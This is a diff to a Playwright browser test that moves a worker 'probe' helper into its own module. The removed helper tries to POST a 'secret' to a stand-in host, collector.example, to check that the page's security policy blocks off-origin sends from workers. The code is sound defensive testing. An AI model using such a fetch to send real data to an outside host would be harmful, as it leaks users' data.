@@ -1,19 +1,6 @@
-import { test, expect, type Worker as PageWorker } from '@playwright/test';
+import { test, expect } from '@playwright/test';
 import { openApp } from './helpers';
-
-/** In a worker: try to send to another origin, and report whether the page's policy refused it. */
-async function probe(worker: PageWorker) {
-  return worker.evaluate(async () => {
-    const violations: string[] = [];
-    self.addEventListener('securitypolicyviolation', (e) => violations.push((e as SecurityPolicyViolationEvent).violatedDirective));
-    const sent = await fetch('https://collector.example/upload', { method: 'POST', body: 'secret' }).then(
-      () => 'sent',
-      () => 'blocked',
-    );
-    await new Promise((r) => setTimeout(r, 200));
-    return { sent, violations };
-  });
-}
+import { probe } from './policy-probe';
 
 test('every kind of worker is bound by the policy: an off-origin fetch is refused as a policy violation', async ({ page }) => {
   await openApp(page);
